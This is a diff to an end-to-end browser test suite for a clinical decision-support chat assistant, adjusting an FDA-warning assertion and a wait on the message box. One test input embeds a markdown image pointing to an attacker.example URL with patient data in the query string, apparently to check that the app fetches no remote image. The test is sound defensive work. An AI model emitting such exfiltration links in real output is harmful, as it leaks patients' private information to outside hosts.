@@ -71,7 +71,8 @@ def test_question_image_and_approved_prescription(app_url: tuple[str, Ehr], page
     ask(page, "Check FDA warnings for Coumadin")
     page.get_by_text("Confidence:", exact=False).first.wait_for(timeout=TIMEOUT_MS)
     chat = page.locator("#chat").inner_text()
-    assert "Choosing a resource — Drug Safety Report" in chat and "Demo model" in chat
+    # The demo model writes no medical text: the label's facts are shown as the source returned them.
+    assert "Choosing a resource — Drug Safety Report" in chat and "as the sources returned it" in chat
     page.locator("#timeline").get_by_text("Drug Safety Report", exact=False).first.wait_for(timeout=TIMEOUT_MS)
     page.screenshot(path=str(ARTIFACTS / "01_answer_and_timeline.png"), full_page=True)
 
@@ -127,6 +128,7 @@ def test_page_welcomes_labels_fetches_no_remote_image_and_lists_the_timeline(app
     page.goto(url, wait_until="domcontentloaded")
     page.locator("#chat").get_by_text("clinical decision-support assistant", exact=False).first.wait_for(timeout=TIMEOUT_MS)
     box = page.get_by_label("Your message to the assistant")
+    box.wait_for(timeout=TIMEOUT_MS)  # the label is set by a load script that may run after the welcome shows
     assert box.count() == 1
 
     box.fill("What is hypertension? ![x](http://attacker.example/pixel.png?q=patient-name)")
